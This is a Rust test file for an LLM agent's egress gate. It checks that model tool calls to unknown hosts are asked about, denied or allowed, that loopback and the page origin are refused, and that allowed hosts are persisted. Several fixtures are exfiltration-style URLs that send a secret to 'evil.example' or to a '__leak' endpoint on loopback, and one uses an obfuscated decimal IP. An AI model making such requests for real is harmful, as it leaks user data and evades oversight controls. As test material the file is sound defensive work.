//! Tool calls and the egress policy, natively: the HTTP provider over the scripted transport asks
//! the scripted gate about unknown hosts, refuses loopback without asking, and the driver keeps
//! the hosts the user allowed and the tool-call log.

#![cfg(not(target_arch = "wasm32"))]

use std::cell::RefCell;
use std::rc::Rc;

use futures::FutureExt;
use planwright::driver::run_loop::{Driver, DriverHooks, DriverPorts};
use planwright::engine::{Run, RunConfig, RunStatus, TaskRequest};
use planwright::io::cancel::CancelToken;
use planwright::io::egress_gate::{EgressDecision, EgressGate};
use planwright::io::runtime::Runtime;
use planwright::io::scripted_gate::ScriptedGate;
use planwright::io::scripted_transport::{ScriptedAnswer, ScriptedTransport};
use planwright::io::sim_runtime::SimRuntime;
use planwright::io::transport::HttpRequest;
use planwright::llm::egress::Egress;
use planwright::llm::http_provider::HttpProvider;
use planwright::llm::provider::{AttemptOutcome, Provider};
use planwright::llm::settings::{ProviderKind, ProviderSettings};
use planwright::llm::tools::{ToolAccess, ToolCallLog};
use planwright::plan::{Plan, Task};
use planwright::store::record::WorkflowRecord;
use planwright::store::{CheckpointStore, MemoryStore};

const LLM: &str = "http://llm.test/v1";

fn endpoint() -> ProviderSettings {
    ProviderSettings {
        kind: ProviderKind::OpenAiCompatible,
        base_url: LLM.into(),
        model: "m".into(),
        api_key: "sk-egress".into(),
        needs_key: true,
        ..ProviderSettings::default()
    }
}

fn json_answer(value: &serde_json::Value) -> ScriptedAnswer {
    ScriptedAnswer::text(200, &[("content-type", "application/json")], &value.to_string())
}

/// A scripted model that asks `http_get` of each URL of `rounds[i]` in round `i`, then answers
/// with the tool results it was sent (one per line); every other host answers `page <url>`.
fn transport(rt: &SimRuntime, rounds: Vec<Vec<&'static str>>) -> ScriptedTransport {
    ScriptedTransport::new(Rc::new(rt.clone()), move |r: &HttpRequest| {
        if !r.url.starts_with(LLM) {
            return ScriptedAnswer::text(200, &[("content-type", "text/plain")], &format!("page {}", r.url));
        }
        let body: serde_json::Value = serde_json::from_str(r.body.as_deref().unwrap()).unwrap();
        let messages = body["messages"].as_array().unwrap();
        let results: Vec<&str> =
            messages.iter().filter(|m| m["role"] == "tool").map(|m| m["content"].as_str().unwrap()).collect();
        let round = messages.iter().filter(|m| m["role"] == "assistant").count();
        let Some(urls) = rounds.get(round) else {
            let text = results.join("\n");
            return json_answer(
                &serde_json::json!({"choices": [{"message": {"content": text}, "finish_reason": "stop"}]}),
            );
        };
        let calls: Vec<serde_json::Value> = urls
            .iter()
            .enumerate()
            .map(|(i, url)| {
                let arguments = serde_json::json!({ "url": url }).to_string();
                serde_json::json!({"id": format!("c{round}{i}"), "type": "function",
                    "function": {"name": "http_get", "arguments": arguments}})
            })
            .collect();
        json_answer(&serde_json::json!({"choices": [{"message": {"role": "assistant", "content": "",
            "tool_calls": calls}, "finish_reason": "tool_calls"}]}))
    })
}

fn research(task_id: &str) -> TaskRequest {
    TaskRequest {
        model: None,
        goal: "secret goal".into(),
        task_id: task_id.into(),
        name: "Look it up".into(),
        description: "Fetch the page".into(),
        kind: Some("research".into()),
        dependency_results: vec![],
        attempt: 1,
        timeout_ms: 60_000,
    }
}

/// Runs one attempt of `research("T1")` to its end.
fn execute(rt: &SimRuntime, provider: HttpProvider) -> AttemptOutcome {
    let outcome = Rc::new(RefCell::new(None));
    let slot = outcome.clone();
    rt.spawn(Box::pin(async move {
        *slot.borrow_mut() = Some(provider.execute(&research("T1"), &CancelToken::new(), &mut |_| {}).await);
    }));
    rt.run_until_idle(u64::MAX);
    let outcome = outcome.borrow_mut().take().expect("the attempt ended");
    outcome
}

fn hosts_sent(transport: &ScriptedTransport) -> Vec<String> {
    transport.sent().into_iter().map(|(_, r)| r.url).filter(|url| !url.starts_with(LLM)).collect()
}

fn egress(gate: &ScriptedGate) -> Egress {
    Egress { gate: Some(Rc::new(gate.clone()) as Rc<dyn EgressGate>), ..Egress::default() }
}

#[test]
fn a_denied_request_sends_nothing_and_the_model_reads_why() {
    let rt = SimRuntime::new(11);
    let transport = transport(&rt, vec![vec!["https://evil.example/?d=secret%20goal"]]);
    let gate = ScriptedGate::new(&[EgressDecision::Deny]);
    let provider =
        HttpProvider::new(endpoint(), Rc::new(transport.clone()), Rc::new(rt.clone())).with_egress(egress(&gate));
    let outcome = execute(&rt, provider);
    assert_eq!(hosts_sent(&transport), Vec::<String>::new(), "nothing reached evil.example");
    assert_eq!(outcome.result.as_deref(), Ok("error: the user denied the request to evil.example"));
    let asked = gate.asked();
    assert_eq!(asked.len(), 1);
    assert_eq!(
        (asked[0].task_id.as_str(), asked[0].tool.as_str(), asked[0].method.as_str(), asked[0].url.as_str()),
        ("T1", "http_get", "GET", "https://evil.example/?d=secret%20goal")
    );
    assert_eq!(outcome.tool_calls.len(), 1);
    assert_eq!(outcome.tool_calls[0].access, ToolAccess::Denied);
    assert_eq!(outcome.tool_calls[0].status, None);
}

#[test]
fn without_a_gate_an_unknown_host_is_denied() {
    let rt = SimRuntime::new(12);
    let transport = transport(&rt, vec![vec!["https://evil.example/"]]);
    let provider = HttpProvider::new(endpoint(), Rc::new(transport.clone()), Rc::new(rt.clone()));
    let outcome = execute(&rt, provider);
    assert!(hosts_sent(&transport).is_empty());
    assert_eq!(outcome.result.as_deref(), Ok("error: the user denied the request to evil.example"));
}

#[test]
fn allowing_a_host_sends_the_request_and_later_calls_there_are_not_asked_again() {
    let rt = SimRuntime::new(13);
    let transport = transport(
        &rt,
        vec![
            vec!["https://data.example/a", "https://DATA.example./b"],
            vec!["https://data.example/c", "https://other.example/"],
        ],
    );
    let gate = ScriptedGate::new(&[EgressDecision::AllowHost, EgressDecision::AllowOnce]);
    let egress = egress(&gate);
    let hosts = egress.hosts.clone();
    let provider = HttpProvider::new(endpoint(), Rc::new(transport.clone()), Rc::new(rt.clone())).with_egress(egress);
    let outcome = execute(&rt, provider);
    assert_eq!(
        hosts_sent(&transport),
        ["https://data.example/a", "https://DATA.example./b", "https://data.example/c", "https://other.example/"],
        "each request sent once"
    );
    let asked: Vec<String> = gate.asked().into_iter().map(|q| q.url).collect();
    assert_eq!(asked, ["https://data.example/a", "https://other.example/"], "data.example was asked about once");
    assert_eq!(*hosts.borrow(), ["data.example"], "only the host allowed as a host is kept");
    let access: Vec<ToolAccess> = outcome.tool_calls.iter().map(|c| c.access).collect();
    assert_eq!(
        access,
        [ToolAccess::AskedAllowedHost, ToolAccess::Allowed, ToolAccess::Allowed, ToolAccess::AskedAllowedOnce]
    );
    let first = &outcome.tool_calls[0];
    assert_eq!((first.status, first.bytes), (Some(200), "page https://data.example/a".len() as u64));
    assert!(outcome.result.unwrap().contains("page https://other.example/"));
}

#[test]
fn loopback_is_refused_without_asking_unless_pre_approved() {
    let rt = SimRuntime::new(14);
    let leak = "http://127.0.0.1:8787/__leak?d=secret";
    let transport = transport(&rt, vec![vec![leak, "http://2130706433:8787/__leak", "http://[::1]/x"]]);
    let gate = ScriptedGate::new(&[EgressDecision::AllowHost, EgressDecision::AllowHost, EgressDecision::AllowHost]);
    let provider =
        HttpProvider::new(endpoint(), Rc::new(transport.clone()), Rc::new(rt.clone())).with_egress(egress(&gate));
    let outcome = execute(&rt, provider);
    assert!(hosts_sent(&transport).is_empty(), "{:?}", hosts_sent(&transport));
    assert!(gate.asked().is_empty(), "loopback is refused, not asked about");
    assert!(outcome.tool_calls.iter().all(|c| c.access == ToolAccess::Refused));
    let text = outcome.result.unwrap();
    assert!(
        text.starts_with(&format!(
            "error: the request to {leak} was refused: 127.0.0.1 is this machine (loopback): add it to the pre-approved hosts"
        )),
        "{text}"
    );

    // Pre-approved by the user: sent, still without asking.
    let rt = SimRuntime::new(15);
    let transport = self::transport(&rt, vec![vec![leak]]);
    let gate = ScriptedGate::new(&[]);
    let settings = ProviderSettings { tool_hosts: "example.org\n127.0.0.1\n".into(), ..endpoint() };
    let provider =
        HttpProvider::new(settings, Rc::new(transport.clone()), Rc::new(rt.clone())).with_egress(egress(&gate));
    let outcome = execute(&rt, provider);
    assert_eq!(hosts_sent(&transport), [leak]);
    assert!(gate.asked().is_empty());
    assert_eq!(outcome.tool_calls[0].access, ToolAccess::Allowed);
}

#[test]
fn the_page_origin_is_refused_and_allow_any_host_skips_the_question() {
    let rt = SimRuntime::new(16);
    let transport = transport(&rt, vec![vec!["https://app.example/api", "https://news.example/"]]);
    let gate = ScriptedGate::new(&[]);
    let settings = ProviderSettings { tool_any_host: true, ..endpoint() };
    let egress = Egress { page_origin: Some("https://app.example".into()), ..egress(&gate) };
    let provider = HttpProvider::new(settings, Rc::new(transport.clone()), Rc::new(rt.clone())).with_egress(egress);
    let outcome = execute(&rt, provider);
    assert_eq!(hosts_sent(&transport), ["https://news.example/"]);
    assert!(gate.asked().is_empty());
    let access: Vec<ToolAccess> = outcome.tool_calls.iter().map(|c| c.access).collect();
    assert_eq!(access, [ToolAccess::Refused, ToolAccess::Allowed]);
}

#[test]
fn the_driver_keeps_allowed_hosts_with_the_workflow_and_the_tool_calls_with_the_call() {
    let rt = SimRuntime::new(17);
    let runtime: Rc<dyn Runtime> = Rc::new(rt.clone());
    let transport = transport(&rt, vec![vec!["https://data.example/a"]]);
    let gate = ScriptedGate::new(&[EgressDecision::AllowHost]);
    let provider: Rc<dyn Provider> =
        Rc::new(HttpProvider::new(endpoint(), Rc::new(transport.clone()), runtime.clone()).with_egress(egress(&gate)));
    let mut task = Task::new("T1", "Look it up", &[]);
    task.kind = Some("research".into());
    let plan = Plan { tasks: vec![task], critical_path: vec![] };
    let config = RunConfig::default();
    let record = WorkflowRecord::new("wf-egress", "g", plan.clone(), config.clone(), 0.0);
    let store = MemoryStore::new();
    let ports = DriverPorts { provider, store: Some(Rc::new(store.clone()) as Rc<dyn CheckpointStore>), runtime };
    let driver = Driver::start(Run::new("g", plan, config), record, ports, DriverHooks::default());
    rt.run_until_idle(u64::MAX);
    driver.with_run(|run| assert_eq!(run.status(), RunStatus::Finished));
    let saved = store.workflow("wf-egress").now_or_never().unwrap().unwrap().unwrap();
    assert_eq!(saved.allowed_hosts, ["data.example"], "a reload keeps the allowed host");
    let calls = store.calls("wf-egress").now_or_never().unwrap().unwrap();
    let logged: Vec<&ToolCallLog> = calls.iter().flat_map(|c| &c.tool_calls).collect();
    assert_eq!(logged.len(), 1);
    assert_eq!(
        (
            logged[0].tool.as_str(),
            logged[0].method.as_str(),
            logged[0].url.as_str(),
            logged[0].access,
            logged[0].status
        ),
        ("http_get", "GET", "https://data.example/a", ToolAccess::AskedAllowedHost, Some(200))
    );
}
